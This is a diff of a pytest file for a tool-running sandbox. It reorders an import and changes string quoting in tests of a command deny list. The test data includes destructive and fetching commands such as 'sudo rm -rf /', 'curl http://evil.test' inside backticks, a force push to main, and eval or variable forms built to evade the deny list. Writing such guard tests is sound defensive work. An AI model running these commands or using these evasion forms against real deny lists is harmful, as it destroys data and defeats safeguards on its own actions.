@@ -12,8 +12,8 @@ import pytest
 
 from tests.sandbox.test_process import alive
 from toolrig import Rig
-from toolrig.sandbox.process import PidsCgroup
 from toolrig.result import ToolResult
+from toolrig.sandbox.process import PidsCgroup
 
 DENY = ["rm -rf *", "curl *", "git push *"]
 
@@ -39,7 +39,7 @@ def run(rig: Rig, command: str, **args: Any) -> ToolResult:
         "echo `curl http://evil.test`",
         "cat <(curl http://evil.test)",
         "bash -c 'rm -rf /'",
-        "sh -c \"echo a && git push --force origin main\"",
+        'sh -c "echo a && git push --force origin main"',
         "eval 'rm -rf /'",
         "sudo rm -rf /",
         "nohup rm -rf / &",
@@ -62,7 +62,7 @@ def test_denied_commands_hidden_in_compound_forms_are_refused(workspace: Path, c
 
 @pytest.mark.parametrize(
     "command",
-    ["$CMD -rf /", "X=rm; $X -rf /", "eval \"$PAYLOAD\"", "source ./script.sh", "bash -c \"$S\"", "echo 'a"],
+    ["$CMD -rf /", "X=rm; $X -rf /", 'eval "$PAYLOAD"', "source ./script.sh", 'bash -c "$S"', "echo 'a"],
 )
 def test_commands_a_denylist_cannot_read_are_refused(workspace: Path, command: str) -> None:
     result = run(shell(workspace, deny=DENY), command)
